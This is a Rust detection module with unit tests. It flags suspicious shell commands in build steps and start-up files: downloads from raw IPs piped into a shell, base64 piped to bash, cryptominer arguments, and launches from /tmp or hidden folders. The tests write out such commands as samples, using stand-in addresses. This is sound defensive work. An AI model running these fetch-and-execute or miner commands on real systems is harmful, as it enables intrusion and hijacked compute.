//! Heuristics on shell command lines: what a build step, an entrypoint or a start-up file runs.

use std::sync::LazyLock;

use regex::Regex;

/// A command line that matched one heuristic.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) struct CommandMatch {
    /// The heuristic's id (`download-pipe-shell-raw-ip`).
    pub(crate) id: &'static str,
    /// The matched part of the command.
    pub(crate) matched: String,
}

/// A download piped into a shell, from a bare IPv4 address instead of a host name.
static DOWNLOAD_RAW_IP_TO_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(curl|wget)\b[^|;&\n]*?\b(?:https?://)?\d{1,3}(?:\.\d{1,3}){3}(?::\d+)?\b[^|;\n]*\|\s*(?:sudo\s+)?(?:/bin/|/usr/bin/)?(?:ba|da|z|k)?sh\b")
        .expect("valid regex")
});

/// Base64-decoded text piped into a shell or handed to `eval`.
static BASE64_TO_SHELL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bbase64\s+(?:-d|--decode|-D)\b[^|;\n]*\|\s*(?:sudo\s+)?(?:/bin/|/usr/bin/)?(?:ba|da|z|k)?sh\b|\beval\s+.{0,20}\$\(\s*echo\s+[A-Za-z0-9+/=]{16,}\s*\|\s*base64\s+(?:-d|--decode)")
        .expect("valid regex")
});

/// Options that only cryptocurrency miners take, or a stratum pool URL.
static MINER_ARGUMENTS: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)stratum\+(?:tcp|ssl|tls)://\S+|--donate-level\b|--cpu-max-threads-hint\b|(?:^|\s)(?:-a|--algo)[= ](?:rx/0|cn/r|randomx|cryptonight)\b|\b(?:xmrig|xmr-stak|cpuminer|minerd|kdevtmpfsi)\b")
        .expect("valid regex")
});

/// A program started in the background or from a temporary or hidden location, as start-up
/// files do to relaunch a payload.
static BACKGROUND_LAUNCH: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\bnohup\s+\S+|(?:^|[\s;&|])(?:/tmp|/var/tmp|/dev/shm)/\S+|(?:^|[\s;&|])/\S*/\.[^/\s]+/\S+|[^&\s]\s*&\s*(?:disown\s*)?$")
        .expect("valid regex")
});

/// Returns the download, decode and miner heuristics that match `command`.
pub(crate) fn suspicious_command(command: &str) -> Vec<CommandMatch> {
    let checks: [(&'static str, &LazyLock<Regex>); 3] =
        [("download-pipe-shell-raw-ip", &DOWNLOAD_RAW_IP_TO_SHELL), ("base64-pipe-shell", &BASE64_TO_SHELL), ("miner-arguments", &MINER_ARGUMENTS)];

    checks
        .into_iter()
        .filter_map(|(id, regex)| regex.find(command).map(|found| CommandMatch { id, matched: found.as_str().to_owned() }))
        .collect()
}

/// Tells whether a start-up file line launches a program: a suspicious command, or a program
/// sent to the background or run from `/tmp`, `/dev/shm` or a hidden folder.
pub(crate) fn launches_program(line: &str) -> bool {
    !suspicious_command(line).is_empty() || BACKGROUND_LAUNCH.is_match(line)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(command: &str) -> Vec<&'static str> {
        suspicious_command(command).into_iter().map(|found| found.id).collect()
    }

    #[test]
    fn raw_ip_download_to_shell() {
        assert_eq!(ids("/bin/sh -c curl -fsSL http://192.0.2.10:8080/install.sh | sh"), ["download-pipe-shell-raw-ip"]);
        assert_eq!(ids("wget -qO- 198.51.100.7/x | bash"), ["download-pipe-shell-raw-ip"]);
    }

    #[test]
    fn host_name_download_is_not_raw_ip() {
        assert!(ids("curl -fsSL https://sh.rustup.rs | sh -s -- -y").is_empty());
        assert!(ids("curl -o /tmp/a 192.0.2.1/x && sha256sum -c sums").is_empty());
    }

    #[test]
    fn base64_to_shell() {
        assert_eq!(ids("echo ZWNobyBoaQo= | base64 -d | bash"), ["base64-pipe-shell"]);
        assert!(ids("base64 -d key.b64 > key.bin").is_empty());
    }

    #[test]
    fn miner_arguments() {
        assert_eq!(ids("/opt/.x/run -o stratum+tcp://pool.invalid:3333 -u W --donate-level 1"), ["miner-arguments"]);
        assert!(ids("python3 -m http.server --bind 0.0.0.0").is_empty());
    }

    #[test]
    fn every_id_is_a_declared_heuristic() {
        let commands = ["curl http://192.0.2.1/x | sh", "echo aGk= | base64 -d | sh", "xmrig --donate-level 1"];
        for command in commands {
            let matches = suspicious_command(command);
            assert!(!matches.is_empty(), "{command}");
            for found in matches {
                assert!(crate::heuristics::HEURISTICS.iter().any(|h| h.id == found.id), "`{}` is not declared", found.id);
            }
        }
    }

    #[test]
    fn startup_launch_lines() {
        assert!(launches_program("nohup /usr/local/bin/agent >/dev/null 2>&1 &"));
        assert!(launches_program("/dev/shm/.x/run"));
        assert!(launches_program("/var/tmp/.cache/update --quiet"));
        assert!(!launches_program("[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\""));
        assert!(!launches_program("export PATH=\"$HOME/.local/bin:$PATH\""));
        assert!(!launches_program("if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi"));
    }
}
